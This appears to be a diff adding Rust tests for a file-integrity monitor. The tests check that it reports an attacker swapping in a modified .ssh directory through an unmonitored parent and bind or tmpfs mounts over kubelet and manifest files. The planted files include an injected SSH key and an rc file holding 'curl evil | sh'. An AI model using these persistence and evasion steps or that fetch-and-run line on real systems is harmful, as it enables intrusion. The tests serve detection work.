@@ -1138,3 +1138,176 @@ fn a_storm_on_one_file_does_not_hold_back_the_report_of_another() {
     assert!(writer.0.wait().unwrap().success());
     assert!(w.stop().success());
 }
+
+// ---------------------------------------------------------------------------------------------
+// 9: other inodes put at monitored paths without touching them: a swap of an unmonitored
+// ancestor, mounts over a file and a directory
+// ---------------------------------------------------------------------------------------------
+
+/// Mounts made in the host's mount namespace (the watcher must see them, so no `unshare`),
+/// lazily unmounted on drop, last first: declared after the fixture, they go before it.
+struct HostMounts(Vec<PathBuf>);
+
+impl HostMounts {
+    /// `mount ARGS... TARGET` as a child; its pid.
+    #[track_caller]
+    fn mount(&mut self, args: &[&str], target: &Path) -> u32 {
+        let mut cmd = Command::new("mount");
+        cmd.args(args).arg(target);
+        let pid = run_child(cmd);
+        self.0.push(target.to_owned());
+        pid
+    }
+
+    /// `umount TARGET` as a child; its pid.
+    #[track_caller]
+    fn umount(&mut self, target: &Path) -> u32 {
+        let mut cmd = Command::new("umount");
+        cmd.arg(target);
+        let pid = run_child(cmd);
+        if let Some(i) = self.0.iter().rposition(|t| t == target) {
+            self.0.remove(i);
+        }
+        pid
+    }
+}
+
+impl Drop for HostMounts {
+    fn drop(&mut self) {
+        for target in self.0.iter().rev() {
+            let _ = Command::new("umount").arg("-l").arg(target).status();
+        }
+    }
+}
+
+/// The first `mounted-over` line with this op and target.
+#[track_caller]
+fn mounted_over(w: &Watcher, op: &str, target: &Path) -> Value {
+    let want = s(target);
+    w.wait_for(&format!("{op} over {want}"), REPORT_WITHIN, |l| {
+        l["kind"] == "mounted-over" && l["op"] == op && l["target"] == want.as_str()
+    })
+}
+
+#[test]
+fn an_exchange_of_an_unmonitored_ancestor_reports_the_swapped_in_copy_and_later_writes() {
+    if !root_or_skip() {
+        return;
+    }
+    let _machine = shared();
+    let _turn = path_ops();
+    let fx = Fixture::on_disk();
+    // The rule root is `tree/home/.ssh`; `tree/home` (and everything above) is not monitored.
+    let home = fx.t("home");
+    let ssh = home.join(".ssh");
+    fs::create_dir_all(&ssh).unwrap();
+    fs::write(ssh.join("authorized_keys"), "ssh-ed25519 AAAA admin\n").unwrap();
+    fs::write(ssh.join("config"), "Host *\n").unwrap();
+    let w = Watcher::start(&fx, Some(&[Rule::new(ssh.clone()).diff()]));
+    // The attacker's copy, made beside it (nothing monitored sees that), then swapped in
+    // with one renameat2(RENAME_EXCHANGE) of the unmonitored parent.
+    let copy = fx.t("prepared");
+    fs::create_dir_all(copy.join(".ssh")).unwrap();
+    fs::write(copy.join(".ssh/authorized_keys"), "ssh-ed25519 AAAA admin\nssh-ed25519 BBBB attacker\n").unwrap();
+    fs::write(copy.join(".ssh/config"), "Host *\n").unwrap();
+    fs::write(copy.join(".ssh/rc"), "curl evil | sh\n").unwrap();
+    let swap = format!(
+        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n\
+         if libc.renameat2(-100, {h:?}.encode(), -100, {c:?}.encode(), 2) != 0:\n    \
+         raise OSError(ctypes.get_errno(), 'renameat2')",
+        h = s(&home),
+        c = s(&copy)
+    );
+    let swapper = python(&swap);
+    assert_eq!(fs::read_to_string(ssh.join("rc")).unwrap(), "curl evil | sh\n", "the swap did not happen");
+
+    let keys = w.change_for(&ssh.join("authorized_keys"));
+    assert_eq!(keys["kind"], "modified", "{keys:#}\n{}", w.dump());
+    assert!(names(&keys, "changed").iter().any(|c| c == "content"), "{keys:#}");
+    assert!(
+        keys["diff"].as_str().is_some_and(|d| d.contains("\n+ssh-ed25519 BBBB attacker\n")),
+        "the attacker's key is not in the diff: {keys:#}"
+    );
+    assert_eq!(keys["process"]["pid"], swapper, "not attributed to the swap: {:?}\n{}", who(&keys), w.dump());
+    assert_eq!(keys["process"]["comm"], "python3", "{keys:#}");
+    assert_eq!(keys["attribution"], "inferred", "{keys:#}");
+    let rc = w.change_for(&ssh.join("rc"));
+    assert_eq!(rc["kind"], "added", "{rc:#}");
+    assert_eq!(rc["process"]["pid"], swapper, "{rc:#}");
+    let rescan =
+        w.wait_for("the rescan of the moved root", REPORT_WITHIN, |l| l["kind"] == "rescan" && l["reason"] == "moved");
+    assert_eq!(rescan["scope"], serde_json::json!([s(&ssh)]), "{rescan:#}");
+
+    // The swapped-in inodes are in the kernel filter now: a later write is seen per event.
+    let code = format!(
+        "f = open({:?}, 'a'); f.write('ssh-ed25519 CCCC later\\n'); f.close()",
+        s(&ssh.join("authorized_keys"))
+    );
+    let writer = python(&code);
+    let want = s(&ssh.join("authorized_keys"));
+    let later = w.wait_for("the later write", REPORT_WITHIN, |l| {
+        is_change(l) && l["path"] == want.as_str() && l["process"]["pid"] == writer
+    });
+    assert_eq!(names(&later, "ops"), ["write"], "{later:#}");
+    assert_eq!(later["detected_by"], "event", "{later:#}");
+    assert!(later["diff"].as_str().is_some_and(|d| d.contains("\n+ssh-ed25519 CCCC later\n")), "{later:#}");
+    // The old inodes, now under `prepared`, are nothing of the watcher's any more.
+    fs::write(copy.join(".ssh/authorized_keys"), "old file, elsewhere now\n").unwrap();
+    w.assert_nothing_under(&copy, Duration::from_millis(300));
+    assert!(w.stop().success());
+}
+
+#[test]
+fn a_bind_mount_over_a_monitored_file_and_a_tmpfs_over_a_monitored_dir_are_reported_as_mounted_over() {
+    if !root_or_skip() {
+        return;
+    }
+    let _machine = shared();
+    let _turn = path_ops();
+    let fx = Fixture::on_disk();
+    let conf = fx.t("kubelet.conf");
+    fs::write(&conf, "server: https://real\n").unwrap();
+    let manifests = fx.t("manifests");
+    fs::create_dir(&manifests).unwrap();
+    fs::write(manifests.join("etcd.yaml"), "image: etcd\n").unwrap();
+    let evil = fx.path("evil.conf");
+    fs::write(&evil, "server: https://evil\n").unwrap();
+    let w = Watcher::start(&fx, None);
+    let mut mounts = HostMounts(Vec::new());
+
+    let binder = mounts.mount(&["--bind", &s(&evil)], &conf);
+    let line = mounted_over(&w, "mount", &conf);
+    assert_eq!(line["mounted"], true, "{line:#}");
+    assert_eq!(line["process"]["pid"], binder, "{line:#}");
+    assert_eq!(line["process"]["comm"], "mount", "{line:#}");
+    assert_eq!(line["rescanned"], serde_json::json!([s(&fx.tree())]), "{line:#}");
+    let changed = w.change_for(&conf);
+    assert_eq!(changed["kind"], "modified", "{changed:#}\n{}", w.dump());
+    assert!(
+        changed["diff"].as_str().is_some_and(|d| d.contains("\n+server: https://evil\n")),
+        "what readers see now is not in the diff: {changed:#}"
+    );
+    assert_eq!(changed["process"]["pid"], binder, "{changed:#}");
+    assert!(names(&changed, "ops").iter().any(|o| o == "mount"), "{changed:#}");
+
+    let tmpfs = mounts.mount(&["-t", "tmpfs", "kubefim-test"], &manifests);
+    let line = mounted_over(&w, "mount", &manifests);
+    assert_eq!((&line["fs_type"], &line["source"]), (&Value::from("tmpfs"), &Value::from("kubefim-test")), "{line:#}");
+    assert_eq!(line["process"]["pid"], tmpfs, "{line:#}");
+    let hidden = w.change_for(&manifests.join("etcd.yaml"));
+    assert_eq!(hidden["kind"], "removed", "{hidden:#}\n{}", w.dump());
+    assert_eq!(hidden["process"]["pid"], tmpfs, "{hidden:#}");
+
+    // Unmounted, the real file is there again, as signed.
+    let unmounter = mounts.umount(&conf);
+    let line = mounted_over(&w, "umount", &conf);
+    assert_eq!(line["mounted"], false, "{line:#}");
+    assert_eq!(line["process"]["pid"], unmounter, "{line:#}");
+    let want = s(&conf);
+    let back = w.wait_for("kubelet.conf back", REPORT_WITHIN, |l| {
+        is_change(l) && l["path"] == want.as_str() && l["baseline_match"] == true
+    });
+    assert_eq!(back["process"]["pid"], unmounter, "{back:#}");
+    drop(mounts);
+    assert!(w.stop().success());
+}
